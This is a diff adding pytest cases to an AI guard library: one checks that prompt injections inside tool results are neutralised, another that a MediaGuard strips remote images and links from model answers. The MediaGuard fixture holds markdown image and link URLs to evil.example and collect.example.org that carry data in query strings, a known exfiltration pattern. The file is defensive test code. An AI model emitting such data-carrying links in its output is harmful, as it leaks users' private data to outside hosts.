@@ -11,6 +11,7 @@ import pytest
 
 from tether.guard import GuardResult, GuardSettings, InjectionGuard, PiiGuard, Verdict
 from tether.guard.base import STAGES, Guard
+from tether.guard.media import MediaGuard
 from tether.testing import FakeGuard
 
 CLEAN = "The office opens at nine and the cafeteria serves lunch until two."
@@ -137,6 +138,33 @@ class TestInjectionGuardContextQuarantine(TestInjectionGuardContextNeutralise):
     @pytest.fixture
     def verdict(self) -> Verdict:
         return Verdict.BLOCK
+
+
+class TestInjectionGuardTool(TestInjectionGuardContextNeutralise):
+    """A tool result (research mode) carrying an injection: neutralised, never obeyed."""
+
+    @pytest.fixture
+    def guard(self, settings: GuardSettings) -> InjectionGuard:
+        return InjectionGuard(settings, "tool")
+
+
+class TestMediaGuard(GuardContract):
+    """Answers: remote images and data-carrying links are taken out (exfiltration)."""
+
+    forbidden = ("https://evil.example/p.png?d=Q3", "https://collect.example.org/?q=salary")
+
+    @pytest.fixture
+    def guard(self) -> MediaGuard:
+        return MediaGuard()
+
+    @pytest.fixture
+    def flagged(self) -> str:
+        return ("Revenue rose 4%. ![chart](https://evil.example/p.png?d=Q3) "
+                "[details](https://collect.example.org/?q=salary)")
+
+    @pytest.fixture
+    def verdict(self) -> Verdict:
+        return Verdict.SANITISE
 
 
 class TestPiiGuardRedacting(GuardContract):
